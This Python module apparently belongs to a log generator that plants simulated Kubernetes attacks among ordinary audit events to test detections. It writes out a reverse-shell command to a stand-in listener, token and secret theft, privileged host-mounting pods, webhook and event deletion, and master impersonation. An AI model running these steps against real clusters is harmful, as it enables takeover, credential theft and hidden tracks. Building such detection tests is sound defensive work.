"""Attacks that are planted among ordinary events: who does what, in which order.

Each is a list of steps. The calls that a detection should report are marked as telling; the others
lead up to them or follow. Ordinary events hold nothing that the condition of an attack describes.
"""

from dataclasses import replace
from random import Random
from typing import Any, Final
from urllib.parse import urlencode

from log_generator.actors import ANONYMOUS, APPS, NAMESPACES, NODES, service_account, somebody
from log_generator.bodies import container, pod, pod_spec, suffix, workload
from log_generator.calls import Actor, Call
from log_generator.steps import Step

BURST: Final = 25
"""How many secrets the burst of reads takes, and how many kinds the burst of denials asks for."""

_KINDS: Final = tuple(
    (group, kind)
    for group, kinds in {
        "": "pods secrets nodes services events configmaps endpoints serviceaccounts limitranges "
        "namespaces persistentvolumes persistentvolumeclaims podtemplates resourcequotas",
        "apps": "deployments daemonsets statefulsets replicasets controllerrevisions",
        "batch": "jobs cronjobs",
        "networking.k8s.io": "ingresses networkpolicies ingressclasses",
        "rbac.authorization.k8s.io": "roles rolebindings clusterroles clusterrolebindings",
        "storage.k8s.io": "storageclasses volumeattachments",
    }.items()
    for kind in kinds.split()
)
_LISTENER: Final = "192.0.2.200/4444"
_TOKEN: Final = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
_DATABASE: Final = "postgres-0"


def _exec(actor: Actor, random: Random, *command: str) -> Call:
    words = [("command", word) for word in command]
    return Call(
        actor=actor,
        verb="get",
        resource="pods",
        subresource="exec",
        namespace="shop",
        name=f"checkout-6c9d8f7b54-{suffix(random)}",
        query=urlencode([*words, ("container", "checkout"), ("stdin", "true"), ("stdout", "true")]),
        code=101,
        seconds=random.randrange(20, 200),
    )


def _listing(actor: Actor, resource: str, namespace: str = "") -> Call:
    query = "limit=500"
    return Call(actor=actor, verb="list", resource=resource, namespace=namespace, query=query)


def reverse_shell(random: Random) -> list[Step]:
    """A shell in a pod that calls back to its master."""
    actor = somebody(random)
    command = ("bash", "-c", f"bash -i >& /dev/tcp/{_LISTENER} 0>&1")
    listing = _listing(actor, "pods", "shop")
    return [Step(listing, 0, telling=False), Step(_exec(actor, random, *command), 9)]


def token_theft(random: Random) -> list[Step]:
    """A command reads the pod's token, which is then tried from elsewhere."""
    stolen = service_account("shop", "checkout", "kubectl/v1.33.1", "192.0.2.200")
    group = "authorization.k8s.io"
    tried = Call(
        actor=stolen, verb="create", group=group, resource="selfsubjectrulesreviews", code=201
    )
    return [
        Step(_exec(somebody(random), random, "cat", _TOKEN), 0),
        Step(tried, 240, telling=False),
    ]


def secrets_listed(random: Random) -> list[Step]:
    """One request for all secrets of the cluster."""
    return [Step(_listing(somebody(random), "secrets"), 0)]


def secrets_read(random: Random) -> list[Step]:
    """The service account of a pod reads one secret after the other."""
    actor = service_account("search", "recommendations", "python-requests/2.32.3", "10.224.0.11")
    read = Call(actor=actor, verb="get", resource="secrets")
    places = random.sample([(space, app) for space in NAMESPACES for app in APPS], BURST)
    return [
        Step(replace(read, namespace=space, name=f"{app}-credentials"), 2 * number)
        for number, (space, app) in enumerate(places)
    ]


def _dangerous(name: str) -> dict[str, Any]:
    mount = {"name": "host", "mountPath": "/host"}
    privileged = {"privileged": True, "runAsUser": 0}
    shell = container(name, "docker.io/alpine:3", securityContext=privileged, volumeMounts=[mount])
    volume = {"name": "host", "hostPath": {"path": "/", "type": ""}}
    return pod_spec(name, [shell], volumes=[volume], hostPID=True, hostNetwork=True)


def privileged_pod(random: Random) -> list[Step]:
    """A pod that owns its node."""
    name = f"debug-{suffix(random)}"
    body = pod(name, "default", name, _dangerous(name))
    create = Call(
        actor=somebody(random),
        verb="create",
        resource="pods",
        namespace="default",
        name=name,
        query="fieldManager=kubectl-run",
        code=201,
        request=body,
        response=body,
    )
    return [Step(create, 0)]


def privileged_daemon_set(random: Random) -> list[Step]:
    """Such a pod on every node: a person asks for the set, a controller for the pods."""
    name = f"node-tuner-{suffix(random)}"
    body = workload("DaemonSet", name, "kube-system", **_dangerous(name))
    ask = Call(
        actor=somebody(random),
        verb="create",
        group="apps",
        resource="daemonsets",
        namespace="kube-system",
        name=name,
        code=201,
        request=body,
        response=body,
    )
    controller = service_account("kube-system", "daemon-set-controller")
    made = [_daemon_pod(controller, name, random) for _ in range(3)]
    return [Step(ask, 0), *(Step(call, 1 + number) for number, call in enumerate(made))]


def _daemon_pod(controller: Actor, app: str, random: Random) -> Call:
    name = f"{app}-{suffix(random)}"
    body = pod(name, "kube-system", app, _dangerous(app), "DaemonSet")
    return Call(
        actor=controller,
        verb="create",
        resource="pods",
        namespace="kube-system",
        code=201,
        request=body,
        response=body,
    )


def kubelet_through_proxy(random: Random) -> list[Step]:
    """The kubelet is asked for its pods, and then to run a command, past all admission."""
    actor, name = somebody(random), random.choice(NODES)
    proxy = f"/api/v1/nodes/{name}/proxy"
    ask = Call(
        actor=actor,
        verb="get",
        resource="nodes",
        subresource="proxy",
        name=name,
        path=f"{proxy}/runningpods/",
    )
    run = replace(ask, verb="create", path=f"{proxy}/run/shop/checkout/checkout?cmd=id")
    return [Step(ask, 0), Step(run, 12)]


def anonymous_access(random: Random) -> list[Step]:
    """Nobody in particular lists pods and is allowed to."""
    opened = replace(
        ANONYMOUS,
        agent=random.choice(("curl/8.7.1", "Mozilla/5.0 zgrab/0.x")),
        reason='RBAC: allowed by ClusterRoleBinding "anyone" of ClusterRole "view" to '
        'User "system:anonymous"',
    )
    return [Step(_listing(opened, "pods", "kube-system"), 0)]


def denials(random: Random) -> list[Step]:
    """A service account finds out what it may do, kind by kind."""
    actor = service_account("staging", "mailer", "python-requests/2.32.3", "10.224.0.12")
    kinds = random.sample(_KINDS, BURST)
    return [Step(_denied(actor, *kind), number) for number, kind in enumerate(kinds)]


def _denied(actor: Actor, group: str, kind: str) -> Call:
    name = f"{kind}.{group}" if group else kind
    message = (
        f'{name} is forbidden: User "{actor.name}" cannot list resource "{kind}" in API group '
        f'"{group}" at the cluster scope'
    )
    return Call(
        actor=actor,
        verb="list",
        group=group,
        resource=kind,
        code=403,
        message=message,
    )


def debug_container(random: Random) -> list[Step]:
    """A container is added to a running pod."""
    name = f"checkout-6c9d8f7b54-{suffix(random)}"
    added = {
        "name": f"debugger-{suffix(random)}",
        "image": "docker.io/nicolaka/netshoot",
        "stdin": True,
        "tty": True,
        "targetContainerName": "checkout",
    }
    spec = pod_spec("checkout", ephemeralContainers=[added])
    patch = Call(
        actor=somebody(random),
        verb="patch",
        resource="pods",
        subresource="ephemeralcontainers",
        namespace="shop",
        name=name,
        request={"spec": {"ephemeralContainers": [added]}},
        response=pod(name, "shop", "checkout", spec),
    )
    return [Step(patch, 0)]


def webhook_deleted(random: Random) -> list[Step]:
    """The gatekeeper is sent home."""
    name = "gatekeeper-validating-webhook-configuration"
    delete = Call(
        actor=somebody(random),
        verb="delete",
        group="admissionregistration.k8s.io",
        resource="validatingwebhookconfigurations",
        name=name,
        response={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success"},
    )
    return [Step(delete, 0)]


def events_deleted(random: Random) -> list[Step]:
    """What the cluster remembers of it is removed; deleting one by one is what AKS logs."""
    delete = Call(actor=somebody(random), verb="delete", resource="events", namespace="kube-system")
    names = [f"debug-{suffix(random)}.{random.getrandbits(56):014x}" for _ in range(4)]
    return [Step(replace(delete, name=name), number) for number, name in enumerate(names)]


def masters_impersonated(random: Random) -> list[Step]:
    """`kubectl --as=… --as-group=system:masters`."""
    masters = {"username": "admin", "groups": ["system:masters", "system:authenticated"]}
    call = _listing(somebody(random), "configmaps", "kube-system")
    return [Step(replace(call, impersonated=masters), 0)]


def database_forwarded(random: Random) -> list[Step]:
    """A port of the database on somebody's own machine."""
    forward = Call(
        actor=somebody(random),
        verb="get",
        resource="pods",
        subresource="portforward",
        namespace="payments",
        name=_DATABASE,
        code=101,
        seconds=1800.0,
    )
    return [Step(forward, 0)]
